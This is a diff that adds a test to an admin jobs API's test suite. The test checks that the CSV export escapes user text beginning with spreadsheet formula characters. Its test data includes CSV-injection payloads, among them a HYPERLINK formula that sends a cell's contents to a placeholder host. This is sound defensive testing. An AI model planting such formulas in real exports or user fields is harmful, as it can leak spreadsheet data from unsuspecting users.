@@ -162,6 +162,24 @@ async def test_admins_list_every_users_jobs_with_filters_and_paging_and_csv_matc
     assert rows[0]["user_name"] == user.name and rows[0]["cost_final"] == "0.01"
 
 
+async def test_the_csv_keeps_formulas_users_wrote_as_text(
+        service: RunningServer, http: httpx.AsyncClient, pool: asyncpg.Pool, user: NewUser) -> None:
+    admin = await new_admin(pool)
+    model = f"test/{uuid.uuid4().hex[:8]}"
+    formulas = ['=HYPERLINK("https://example.invalid/?"&A2,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "a = b"]
+    ids = {await insert_job(pool, user, model=model, prompt=prompt, status="failed", error=prompt): prompt
+           for prompt in formulas}
+    answer = await http.get(f"{service.url}/api/admin/jobs.csv", headers=bearer(admin), params={"model": model})
+    assert answer.status_code == 200, answer.text
+    rows = {row["request_id"]: row for row in csv.DictReader(io.StringIO(answer.text))}
+    assert rows.keys() == ids.keys()
+    for request_id, prompt in ids.items():
+        # A spreadsheet reads a cell that starts with = + - @ or a tab as a formula: those get an
+        # apostrophe (shown as text); anything else stays as the user wrote it.
+        expected = prompt if prompt == "a = b" else "'" + prompt
+        assert (rows[request_id]["prompt"], rows[request_id]["error"]) == (expected, expected)
+
+
 @pytest.mark.parametrize("params", [{"since": "yesterday"}, {"status": "done"}, {"limit": "0"}, {"cursor": "nope"}])
 async def test_admin_list_refuses_what_it_cannot_read(
         service: RunningServer, http: httpx.AsyncClient, pool: asyncpg.Pool, params: dict[str, str]) -> None:
